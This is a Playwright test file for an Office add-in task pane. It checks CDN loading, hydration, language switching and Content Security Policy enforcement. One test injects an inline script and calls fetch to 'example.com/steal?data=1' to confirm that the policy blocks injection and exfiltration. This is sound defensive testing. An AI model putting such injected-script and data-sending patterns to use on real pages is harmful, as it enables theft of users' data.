import type { Browser, Page } from "playwright-core";
import {
  DIST,
  launchChromium,
  requireE2eSetup,
  watchPage,
  type PageWatch,
} from "./support/chromium";
import { OFFICE_JS_URL } from "./support/officeCdn";
import { serveFolder, type StaticServer } from "./support/staticServer";
import { en } from "../../src/taskpane/i18n/en";
import { vi } from "../../src/taskpane/i18n/vi";

let server: StaticServer;
let browser: Browser;

beforeAll(async () => {
  requireE2eSetup();
  server = await serveFolder(DIST);
  browser = await launchChromium();
});

afterAll(async () => {
  await browser?.close();
  await server?.close();
});

/** Outside Office, office.js opens its telemetry frame this long after it loads. */
const OFFICE_TELEMETRY_DELAY_MS = 3000;

async function open(path: string): Promise<{ page: Page; watch: PageWatch; blocked: string[] }> {
  const page = await (await browser.newContext()).newPage();
  const watch = await watchPage(page, server.origin);
  const blocked: string[] = [];
  page.on("console", (message) => {
    if (message.type() === "error" && /Content Security Policy/.test(message.text())) {
      blocked.push(message.text());
    }
  });
  await page.goto(`${server.origin}/${path}`);
  return { page, watch, blocked };
}

/** Console errors other than the policy's own reports (which the tests look at apart). */
const otherErrors = (watch: PageWatch) =>
  watch.errors.filter((e) => !/Content Security Policy/.test(e));

test("the task pane loads Office.js from Microsoft's CDN and makes no other outside request", async () => {
  const { page, watch, blocked } = await open("taskpane.html");
  await page.getByRole("tablist").waitFor();
  await page.getByText(vi.app.host.browser).waitFor();
  // Let Office.js's telemetry timer run: the frame it opens is refused by the policy.
  await page.waitForTimeout(OFFICE_TELEMETRY_DELAY_MS + 500);

  expect(watch.officeJs[0]).toBe(OFFICE_JS_URL);
  // Office.js loads only files of its own CDN folder (served from the npm copy).
  expect(
    watch.officeJs.every((url) => url.startsWith(OFFICE_JS_URL.replace(/office\.js$/, ""))),
  ).toBe(true);
  expect(watch.foreignRequests).toEqual([]);
  expect(otherErrors(watch)).toEqual([]);
  expect(
    blocked.every((message) => /frame-src/.test(message) && /oaspapps\.com/.test(message)),
  ).toBe(true);
});

test("the pane's first screen is in the page as served, and React takes it over without a mismatch", async () => {
  const context = await browser.newContext();
  const page = await context.newPage();
  const watch = await watchPage(page, server.origin);
  // The tab list the HTML itself carries, seen before any script of the page runs.
  await page.addInitScript(() => {
    document.addEventListener("readystatechange", () => {
      if (document.readyState !== "interactive") return;
      const flags = window as unknown as Record<string, unknown>;
      flags.__shellTablist = document.querySelector('[role="tablist"]');
    });
  });
  await page.goto(`${server.origin}/taskpane.html`);
  await page.getByText(vi.app.host.browser).waitFor();
  const kept = await page.evaluate(() => {
    const first = (window as unknown as Record<string, unknown>).__shellTablist;
    return first instanceof Element && first === document.querySelector('[role="tablist"]');
  });
  expect(kept).toBe(true);
  // Taken over: the tabs answer.
  const settings = page.getByRole("tab", { name: vi.tabs.settings });
  await settings.click();
  await page.waitForFunction(
    (name) =>
      [...document.querySelectorAll('[role="tab"]')].some(
        (tab) => tab.textContent?.includes(name) && tab.getAttribute("aria-selected") === "true",
      ),
    vi.tabs.settings,
  );
  expect(otherErrors(watch)).toEqual([]);
  await context.close();
});

test("with settings other than the first screen's (English), the pane is drawn anew, in English", async () => {
  const context = await browser.newContext();
  const page = await context.newPage();
  const watch = await watchPage(page, server.origin);
  await page.addInitScript(() => {
    localStorage.setItem("chitieu.settings.v1", JSON.stringify({ lang: "en" }));
    // Whether the Vietnamese first screen could be seen once the page was parsed.
    document.addEventListener("readystatechange", () => {
      if (document.readyState !== "interactive") return;
      const root = document.getElementById("root");
      const flags = window as unknown as Record<string, unknown>;
      flags.__shellVisibility = root ? getComputedStyle(root).visibility : "none";
    });
  });
  await page.goto(`${server.origin}/taskpane.html`);
  await page.getByText(en.app.host.browser).waitFor();
  expect(
    await page.evaluate(() => (window as unknown as Record<string, unknown>).__shellVisibility),
  ).toBe("hidden");
  expect(
    await page.evaluate(
      () => getComputedStyle(document.getElementById("root") as Element).visibility,
    ),
  ).toBe("visible");
  expect(await page.getByRole("tab").allTextContents()).toHaveLength(6);
  await page.getByRole("tab", { name: en.tabs.settings }).waitFor();
  expect(await page.getByText(vi.check.heading).count()).toBe(0);
  expect(otherErrors(watch)).toEqual([]);
  await context.close();
});

test.each(["taskpane.html", "commands.html", "quickcheck.html", "preview.html", "help.html"])(
  "%s refuses an injected inline script and an outside fetch, and allows no eval",
  async (path) => {
    const { page, watch, blocked } = await open(path);
    const outcome = await page.evaluate(async () => {
      const flags = window as unknown as Record<string, unknown>;
      const script = document.createElement("script");
      script.textContent = "window.__injected = true;";
      document.head.append(script);
      let fetched = false;
      try {
        await fetch("https://example.com/steal?data=1");
        fetched = true;
      } catch {
        fetched = false;
      }
      const policy =
        document
          .querySelector('meta[http-equiv="Content-Security-Policy"]')
          ?.getAttribute("content") ?? "";
      return { injected: flags.__injected === true, fetched, policy };
    });
    expect(outcome).toMatchObject({ injected: false, fetched: false });
    // No eval: DevTools' own evaluation is exempt from the policy, so this reads the policy.
    const scripts = /script-src ([^;]*)/.exec(outcome.policy)?.[1] ?? "";
    expect(scripts).not.toMatch(/unsafe-eval|unsafe-inline|\*/);
    // Refused by the policy in the page: the fetch never became a request.
    expect(watch.foreignRequests).toEqual([]);
    expect(blocked.some((m) => /script-src/.test(m) && /inline/.test(m))).toBe(true);
    expect(blocked.some((m) => /connect-src/.test(m) && /example\.com/.test(m))).toBe(true);
    await page.context().close();
  },
);
